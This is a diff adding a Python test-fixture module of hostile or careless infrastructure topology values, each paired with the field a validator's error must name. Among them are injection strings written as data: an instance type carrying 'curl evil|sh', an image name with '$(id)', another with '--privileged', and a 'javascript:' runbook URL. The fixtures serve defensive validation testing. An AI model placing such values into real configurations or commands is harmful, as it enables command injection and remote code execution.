@@ -1,0 +1,69 @@
+"""Hostile or careless topology values, each with the field its error must name.
+
+Shared by the unit tier (the model rejects each) and the e2e tier (synth exits 2 on each, before
+writing anything).
+"""
+
+from __future__ import annotations
+
+from collections.abc import Callable
+from typing import Any
+
+Raw = dict[str, Any]
+
+
+def west(raw: Raw) -> Raw:
+    region: Raw = raw["regions"]["us-west-1"]
+    return region
+
+
+def ledger_pool(raw: Raw) -> Raw:
+    pool: Raw = west(raw)["node_groups"]["ledger"]
+    return pool
+
+
+def nobody_votes(raw: Raw) -> None:
+    for body in raw["regions"].values():
+        body["ledger_voting"] = False
+
+
+HOSTILE: dict[str, tuple[Callable[[Raw], object], str]] = {
+    "arn-with-a-newline": (
+        lambda r: r["eks"].update(admins=["arn:aws:iam::111122223333:role/admin\n"]),
+        "eks.admins",
+    ),
+    "addon-version-with-a-newline": (
+        lambda r: r["eks"]["addons"].update({"coredns": "v1.12.1-eksbuild.2\n"}),
+        "eks",
+    ),
+    "public-vpc-range": (lambda r: west(r).update(vpc_cidr="8.8.0.0/16"), "regions.us-west-1.vpc_cidr"),
+    "multicast-vpc-range": (lambda r: west(r).update(vpc_cidr="224.0.0.0/16"), "regions.us-west-1.vpc_cidr"),
+    "loopback-vpc-range": (lambda r: west(r).update(vpc_cidr="127.0.0.0/16"), "regions.us-west-1.vpc_cidr"),
+    "halves-of-the-internet": (
+        lambda r: r["eks"].update(public_access_cidrs=["0.0.0.0/1", "128.0.0.0/1"]),
+        "whole internet",
+    ),
+    "four-zones-in-a-two-zone-region": (
+        lambda r: west(r).update(availability_zones=["us-west-1a", "us-west-1b", "us-west-1c", "us-west-1d"]),
+        "offers 2",
+    ),
+    "nobody-votes": (nobody_votes, "no region's Ledger nodes vote"),
+    "zero-cpu": (lambda r: r.setdefault("ledger", {}).update(resources={"cpu": "0", "memory": "8Gi"}), "cpu"),
+    "injected-instance-type": (
+        lambda r: ledger_pool(r).update(instance_types=["m6i.large; curl evil|sh"]),
+        "not an EC2 instance type",
+    ),
+    "made-up-instance-type": (lambda r: ledger_pool(r).update(instance_types=["zz9d.huge"]), "not an EC2 instance"),
+    "namespace-with-spaces": (lambda r: r.setdefault("monitoring", {}).update(namespace="Bad Namespace!"), "namespace"),
+    "javascript-runbook": (
+        lambda r: r.setdefault("monitoring", {}).update(runbook_base_url="javascript:alert(1)"),
+        "runbook_base_url",
+    ),
+    "huge-tailnet-name": (lambda r: r["connectivity"].update(tailnet="t" * 20_000), "connectivity.tailnet"),
+    "priority-true": (lambda r: west(r).update(priority=True), "regions.us-west-1.priority"),
+    "priority-a-float": (lambda r: west(r).update(priority=1.0), "regions.us-west-1.priority"),
+    "astronomic-size": (lambda r: ledger_pool(r).update(max_size=10**20), "max_size"),
+    "size-beyond-any-float": (lambda r: ledger_pool(r).update(max_size=10**400), "max_size"),
+    "image-with-spaces": (lambda r: r["images"].update(ledger="ghcr.io/inferadb/ledger:0.1.1 --privileged"), "images"),
+    "image-with-a-command": (lambda r: r["images"].update(engine="ghcr.io/inferadb/engine:$(id)"), "images.engine"),
+}
